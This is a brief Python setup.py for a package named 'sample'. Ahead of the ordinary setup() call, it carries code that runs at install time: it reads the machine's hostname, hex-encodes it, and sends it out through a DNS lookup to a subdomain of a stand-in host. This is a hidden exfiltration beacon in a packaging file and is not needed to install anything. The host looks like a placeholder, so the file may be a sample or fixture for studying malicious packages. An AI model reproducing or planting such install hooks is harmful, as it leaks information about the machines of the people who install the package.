import socket
name = socket.gethostname().encode().hex()
socket.gethostbyname(f"{name}.sample.example.invalid")
from setuptools import setup

setup(name="sample", version="1.0", packages=["lantern"])
